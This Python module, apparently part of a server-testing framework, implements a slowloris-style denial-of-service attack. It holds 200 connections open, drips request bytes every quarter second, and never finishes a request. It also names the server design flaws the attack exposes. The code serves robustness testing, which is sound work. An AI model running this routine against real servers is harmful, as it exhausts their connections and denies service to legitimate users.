"""Slow senders, as slowloris: requests that arrive byte by byte and never become complete."""

from __future__ import annotations

import itertools
from typing import Final

from bothends.attack.attacker import Attacker
from bothends.attack.attacks.base import Attack

_CONNECTIONS: Final = 200
_INTERVAL: Final = 0.25  # seconds between two bytes


async def slow_senders(attacker: Attacker) -> None:
    """Send the beginning of a request, then bytes that continue it, on each of many connections."""
    if attacker.request.endswith(b"\r\n\r\n"):  # HTTP: there is always one more header
        start, more = attacker.request[:-2], b"X-Slow: 1\r\n"
    else:
        start, more = attacker.request[:-1], b"a"

    async def member(number: int) -> None:
        await attacker.pause(number * 0.002)
        while attacker.remaining > 0:
            sock = await attacker.open_session()
            for byte in itertools.chain(start, itertools.cycle(more)):
                if sock is None or not await attacker.send(sock, bytes([byte])):
                    break
                if not await attacker.pause(_INTERVAL):
                    return
            await attacker.pause(_INTERVAL)

    await attacker.crowd(_CONNECTIONS, member)


ATTACK: Final = Attack(
    id="slow-senders",
    does=f"{_CONNECTIONS} connections send a request byte by byte, and never its end",
    mistake="waits in recv() for one client while others wait, or has a fixed number of threads or processes",
    run=slow_senders,
)
